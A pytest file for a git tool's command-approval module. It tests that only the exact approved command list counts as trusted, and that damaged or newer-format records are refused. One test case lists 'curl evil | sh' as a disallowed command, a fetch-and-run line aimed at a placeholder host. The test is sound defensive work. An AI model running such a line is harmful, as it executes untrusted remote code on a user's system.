"""What the user approved is approved exactly, and nothing else is."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from git_okstra.core.errors import OkstraError
from git_okstra.state import trust

TIME = "2024-01-02T03:04:05Z"


@pytest.fixture
def common_dir(tmp_path: Path) -> str:
    return str(tmp_path / "shop.git")


def record(common_dir: str) -> Path:
    return Path(common_dir) / "okstra" / "trusted.json"


def test_nothing_is_trusted_at_first_and_nothing_is_written(common_dir: str) -> None:
    assert not trust.trusted(common_dir, ["npm ci"])
    assert not record(common_dir).exists()


def test_nothing_to_run_needs_no_approval(common_dir: str) -> None:
    assert trust.trusted(common_dir, [])
    assert not trust.trust(common_dir, [], "me", TIME)
    assert not record(common_dir).exists()


def test_an_approval_is_recorded_with_who_and_when(common_dir: str) -> None:
    assert trust.trust(common_dir, ("npm ci", "make 결제"), "me@here", TIME)
    assert trust.trusted(common_dir, ["npm ci", "make 결제"])
    assert trust.trusted(common_dir, ("npm ci", "make 결제"))
    assert json.loads(record(common_dir).read_bytes()) == {
        "format": 1,
        "approved": [{"commands": ["npm ci", "make 결제"], "owner": "me@here", "time": TIME}],
    }


@pytest.mark.parametrize(
    "changed",
    [
        ["npm ci"],
        ["make", "npm ci"],
        ["npm ci", "make", "curl evil | sh"],
        ["npm ci", "make "],
        ["npm ci", "Make"],
        ["npm ci\nmake"],
        ["npm ci", "make", ""],
    ],
)
def test_what_differs_in_anything_is_not_approved(common_dir: str, changed: list[str]) -> None:
    trust.trust(common_dir, ["npm ci", "make"], "me", TIME)
    assert not trust.trusted(common_dir, changed)


def test_approvals_stand_beside_each_other_and_are_not_repeated(common_dir: str) -> None:
    assert trust.trust(common_dir, ["a"], "me", TIME)
    assert trust.trust(common_dir, ["b"], "me", TIME)
    before = record(common_dir).read_bytes()
    assert not trust.trust(common_dir, ["a"], "you", "2025-01-01T00:00:00Z")
    assert record(common_dir).read_bytes() == before
    assert trust.trusted(common_dir, ["a"])
    assert trust.trusted(common_dir, ["b"])


def test_untrust_takes_all_back(common_dir: str) -> None:
    assert not trust.untrust(common_dir)
    trust.trust(common_dir, ["a"], "me", TIME)
    trust.trust(common_dir, ["b"], "me", TIME)
    assert trust.untrust(common_dir)
    assert not trust.trusted(common_dir, ["a"])
    assert not trust.trusted(common_dir, ["b"])
    assert not trust.untrust(common_dir)


@pytest.mark.parametrize(
    "content",
    [
        "",
        "{",
        "[]",
        "null",
        "{}",
        '{"format": 1, "approved": {}}',
        '{"format": 1, "approved": [["a"]]}',
        "[" * 9000,
        "\xff",
    ],
)
def test_a_damaged_record_is_no_approval_and_can_be_begun_anew(common_dir: str, content: str) -> None:
    record(common_dir).parent.mkdir(parents=True)
    record(common_dir).write_bytes(content.encode("latin-1"))
    for ask in (
        lambda: trust.trusted(common_dir, ["a"]),
        lambda: trust.trust(common_dir, ["a"], "me", TIME),
    ):
        with pytest.raises(OkstraError) as caught:
            ask()
        assert caught.value.code == "damaged-file"
        assert str(record(common_dir)) in caught.value.message
    assert record(common_dir).read_bytes() == content.encode("latin-1")
    assert trust.untrust(common_dir)
    assert not trust.trusted(common_dir, ["a"])
    assert trust.trust(common_dir, ["a"], "me", TIME)


def test_a_newer_record_is_left_alone(common_dir: str) -> None:
    record(common_dir).parent.mkdir(parents=True)
    record(common_dir).write_text('{"format": 2, "approved": "in another way"}')
    for ask in (
        lambda: trust.trusted(common_dir, ["a"]),
        lambda: trust.trust(common_dir, ["a"], "me", TIME),
        lambda: trust.untrust(common_dir),
    ):
        with pytest.raises(OkstraError) as caught:
            ask()
        assert caught.value.code == "newer-format"
    assert record(common_dir).read_text() == '{"format": 2, "approved": "in another way"}'
